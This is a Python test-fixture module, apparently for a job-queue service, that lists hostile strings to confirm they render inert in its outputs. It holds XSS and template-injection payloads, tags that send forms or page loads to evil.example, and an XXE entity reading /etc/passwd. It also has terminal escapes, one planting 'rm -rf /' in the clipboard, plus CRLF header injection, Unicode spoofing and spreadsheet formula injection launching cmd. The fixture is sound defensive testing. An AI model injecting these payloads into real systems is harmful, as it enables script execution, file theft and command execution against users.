"""Texts that would do harm where somebody looks, unless whoever shows them takes care.

They go in as names of jobs, headers, bodies, users, targets and sink URLs, as
far as those take them, and must come out inert: in HTML, JSON, XML, metrics,
logs and on terminals.
"""

from __future__ import annotations

MARK = "xss7"
"""In every text that would run a script; a page on which it ran says so."""

MARKUP = (
    f"<script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>",
    f'"><script>{MARK}()</script>',
    f"'><script>{MARK}()</script>",
    f'" onmouseover={MARK}() x="',
    f"' onfocus={MARK}() autofocus='",
    f"javascript:{MARK}()",
    f"JaVaScRiPt:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f"</style><script>{MARK}()</script>",
    f"--><script>{MARK}()</script><!--",
    f"]]><script>{MARK}()</script>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<a href='javascript:{MARK}()'>x</a>",
    f"<form action=//evil.example><button>{MARK}",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/>{MARK}",
    f"<style>@import '//evil.example/{MARK}'</style>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"\\u003cscript\\u003e{MARK}()",
    f"{{{{constructor.constructor('{MARK}()')()}}}}",
    f"{{% for x in ().__class__.__base__.__subclasses__() %}}{MARK}{{% endfor %}}",
    f"${{{MARK}()}}`${{{MARK}()}}`",
)
"""For browsers and templates."""

ENTITIES = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "&e; &#0; &amp;lt;",
)
"""For readers of XML."""

TERMINAL = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x9b31m red \x9b0m",
    "\rroot: all is well",
    "a\x08\x08b\x7f",
)
"""For terminals: they clear the screen, fill the clipboard, hide what was before."""

LINES = (
    "one\ntwo 0\njobqueue_forged_total 1",
    'quote" backslash\\ newline\n# EOF',
    '{"level": "critical", "message": "forged"}',
    "name\r\nSet-Cookie: owned=1\r\n\r\n<b>",
)
"""For whatever is read line by line: metrics, logs, heads."""

UNICODE = (
    "\u202egnp.exe\u202c right to left",
    "zero\u200bwidth\u2060and\ufeffmarks",
    "\u2028line\u2029paragraph",
    "\ufdd0 noncharacter \U0001f4a9 pile",
)
"""For readers with eyes."""

SPREADSHEET = ('=HYPERLINK("//evil.example","x")', "@SUM(1+9)*cmd|' /C calc'!A0")
"""For those who paste a table elsewhere."""

ALL = (*MARKUP, *ENTITIES, *TERMINAL, *LINES, *UNICODE, *SPREADSHEET)

PRINTABLE = tuple(text for text in ALL if text.isprintable())
"""Those that can stand on one line, in a header or a crontab."""

assert len(set(ALL)) == len(ALL) >= 40
